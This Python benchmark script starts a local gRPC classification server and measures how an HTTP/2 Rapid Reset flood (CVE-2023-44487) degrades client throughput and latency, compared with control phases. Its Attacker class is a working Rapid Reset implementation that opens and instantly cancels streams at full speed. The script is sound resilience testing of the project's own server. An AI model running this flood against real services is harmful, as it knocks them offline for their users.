"""HTTP/2 Rapid Reset (CVE-2023-44487) against the gRPC port: do streams opened and reset at once starve the clients
that wait for answers, and does the server compute what nobody will read?

    python -m bench.rapid_reset [--seconds 20] [--attackers 2] [--burners N] [--clients 4] [--server-args ''] [--sample-s 30]

One server process (the default model). Phase 1, `--seconds`: `--clients` threads send auxnet.v1 Classify of
CIFAR-10 test JPEGs in a closed loop (their throughput and latency are the baseline). Phase 2, as long: the same
clients, and `--attackers` threads that each hold an HTTP/2 connection (the h2 library on a raw socket) and, as fast
as they can, open a stream to Classify with a whole valid request in it (HEADERS, DATA with END_STREAM) and reset it
(RST_STREAM CANCEL) before any answer; a connection the server closes (GOAWAY, e.g. ENHANCE_YOUR_CALM) is counted
and opened again. Reported: the clients' throughput and p50/p99 in both phases, the streams the attackers opened
and reset, connections closed by the server, the server's requests by status code, the admitted requests it
dropped before compute and its CPU seconds in each phase, from its /metrics and /proc. A control phase runs the
clients beside as many processes burning a core each as there are attackers (each attacker takes about a core on
this machine): what the attack costs beyond its CPU. The attackers are threads of one process, so together they
take at most about a core, whatever their number: `--burners 1` gives many connections the control of one.
"""

from __future__ import annotations

import argparse
import multiprocessing
import select
import socket
import statistics
import threading
import time
import urllib.request

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from prometheus_client.parser import text_string_to_metric_families

from bench.protocols import process_cpu_s
from bench.soak import tree_stats
from server.client import Client, classify_request
from server.demo import ROOT, start_server
from server.loadgen import load_labelled_folder

METHOD = "/auxnet.v1.EarlyExitService/Classify"


def counters(metrics_port: int) -> dict:
    """auxnet_requests_total by code and auxnet_dropped_total (admitted, dropped before compute), summed."""
    text = urllib.request.urlopen(f"http://127.0.0.1:{metrics_port}/metrics", timeout=10).read().decode()
    out: dict = {}
    for family in text_string_to_metric_families(text):
        for s in family.samples:
            if s.name == "auxnet_requests_total":
                out[s.labels["code"]] = out.get(s.labels["code"], 0) + s.value
            elif s.name == "auxnet_dropped_total":
                out["dropped before compute"] = out.get("dropped before compute", 0) + s.value
    return out


class Attacker(threading.Thread):
    def __init__(self, target: str, message: bytes, stop: threading.Event):
        super().__init__(daemon=True)
        self.host, self.port = target.rsplit(":", 1)
        self.frame = b"\x00" + len(message).to_bytes(4, "big") + message  # gRPC's length-prefixed message
        self.stop = stop
        self.streams = self.goaways = self.connections = self.errors = 0

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                self._one_connection()
            except (OSError, h2.exceptions.ProtocolError):
                self.errors += 1
                time.sleep(0.01)

    def _one_connection(self) -> None:
        sock = socket.create_connection((self.host, int(self.port)), timeout=5)
        self.connections += 1
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        headers = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", f"{self.host}:{self.port}"),
                   ("content-type", "application/grpc"), ("te", "trailers")]
        try:
            while not self.stop.is_set():
                if not self._read(sock, conn):
                    return  # closed by the server
                if conn.outbound_flow_control_window < len(self.frame) * 2:
                    self._read(sock, conn, wait_s=0.05)  # wait for the server's WINDOW_UPDATE
                    continue
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.send_data(stream, self.frame, end_stream=True)
                conn.reset_stream(stream, error_code=8)  # CANCEL
                sock.sendall(conn.data_to_send())
                self.streams += 1
        finally:
            sock.close()

    def _read(self, sock: socket.socket, conn, wait_s: float = 0.0) -> bool:
        """Take what the server sent (settings, window updates, pings, answers of reset streams); False once it
        has closed the connection or sent GOAWAY."""
        while select.select([sock], [], [], wait_s)[0]:
            data = sock.recv(1 << 20)
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaways += 1
                    return False
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
            wait_s = 0.0
        return True


def clients(target: str, images: list[bytes], n: int, stop: threading.Event) -> tuple[list, list]:
    latencies, errors, threads = [], [], []

    def loop(i: int) -> None:
        with Client(target, retries=0, timeout_s=10) as c:
            k = i
            while not stop.is_set():
                t = time.perf_counter()
                try:
                    c.classify(images[k % len(images)])
                    latencies.append(1000 * (time.perf_counter() - t))
                except Exception as e:  # noqa: BLE001 - counted and shown
                    errors.append(type(e).__name__ + ": " + str(getattr(e, "code", lambda: "")()))
                k += n

    for i in range(n):
        threads.append(threading.Thread(target=loop, args=(i,), daemon=True))
        threads[-1].start()
    return latencies, errors, threads


def burn(stop) -> None:
    """One core's worth of Python work: what an attacker's thread costs this shared machine, without its streams."""
    while not stop.is_set():
        sum(range(10_000))


def phase(name: str, target: str, images, args, proc, metrics_port: int, attack: bool, burners: int = 0) -> dict:
    stop = threading.Event()
    before, cpu0, rss0 = counters(metrics_port), process_cpu_s(proc.pid), tree_stats(proc.pid)["worker_mb"]
    attackers = [Attacker(target, classify_request(images[i]).SerializeToString(), stop) for i in range(args.attackers)] if attack else []
    for a in attackers:
        a.start()
    burn_stop = multiprocessing.Event()
    burning = [multiprocessing.Process(target=burn, args=(burn_stop,), daemon=True) for _ in range(burners)]
    for b in burning:
        b.start()
    latencies, errors, threads = clients(target, images, args.clients, stop)
    rss, end = [], time.monotonic() + args.seconds
    while (left := end - time.monotonic()) > 0:  # the server's memory as the phase goes (a leak per stream would climb)
        time.sleep(min(args.sample_s, left))
        rss.append(round(tree_stats(proc.pid)["worker_mb"], 1))
    stop.set()
    burn_stop.set()
    for t in threads + attackers + burning:
        t.join(15)
    after = counters(metrics_port)
    lat = sorted(latencies)
    q = lambda f: lat[min(len(lat) - 1, int(f * len(lat)))] if lat else float("nan")  # noqa: E731
    return {"phase": name, "answers/s": len(lat) / args.seconds, "p50": q(0.5), "p99": q(0.99), "client errors": len(errors),
            "first errors": sorted(set(errors))[:3], "streams reset": sum(a.streams for a in attackers),
            "attack connections": sum(a.connections for a in attackers), "GOAWAYs": sum(a.goaways for a in attackers),
            "attacker errors": sum(a.errors for a in attackers),
            "server": {k: after.get(k, 0) - before.get(k, 0) for k in sorted(set(after) | set(before))
                       if after.get(k, 0) != before.get(k, 0)},
            "server CPU s": process_cpu_s(proc.pid) - cpu0, "RSS MB": f"{rss0:.1f} -> {tree_stats(proc.pid)['worker_mb']:.1f}",
            "RSS every sample_s": rss}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--attackers", type=int, default=2)
    p.add_argument("--burners", type=int, default=None, help="control phase's core-burning processes (default: --attackers)")
    p.add_argument("--clients", type=int, default=4)
    p.add_argument("--repo", default=str(ROOT / "models" / "repository"))
    p.add_argument("--data", default=str(ROOT.parent / "shared" / "data" / "cifar10-jpeg" / "test"))
    p.add_argument("--server-args", default="")
    p.add_argument("--sample-s", type=float, default=30.0, help="read the server's resident memory this often in a phase")
    args = p.parse_args()
    burners = args.attackers if args.burners is None else args.burners
    images = load_labelled_folder(args.data)[0][:200]
    proc, target, metrics_port = start_server(args.repo, args.server_args.split(), quiet=True)
    try:
        with Client(target) as c:  # warm-up
            for im in images[:50]:
                c.classify(im)
        rows = [phase("clients alone", target, images, args, proc, metrics_port, attack=False),
                phase(f"clients + {args.attackers} rapid-reset connections", target, images, args, proc, metrics_port, attack=True),
                phase(f"clients + {burners} process(es) burning a core (the attacker's CPU, no streams)", target,
                      images, args, proc, metrics_port, attack=False, burners=burners),
                phase("clients alone, after", target, images, args, proc, metrics_port, attack=False)]
    finally:
        proc.terminate()
        proc.wait(30)
    print(f"{args.clients} client threads, {args.seconds:.0f} s per phase, server args {args.server_args!r}, 2 cores shared")
    for r in rows:
        print(r)
    base = statistics.mean([rows[0]["answers/s"], rows[3]["answers/s"]])
    print(f"clients' throughput under attack: {rows[1]['answers/s'] / base:.2f}x alone (the mean of the two phases alone, "
          f"{base:.0f} answers/s), {rows[1]['answers/s'] / rows[2]['answers/s']:.2f}x beside a core's worth of burning; "
          f"p99 {rows[1]['p99']:.1f} ms vs {rows[0]['p99']:.1f} alone and {rows[2]['p99']:.1f} burning")


if __name__ == "__main__":
    main()
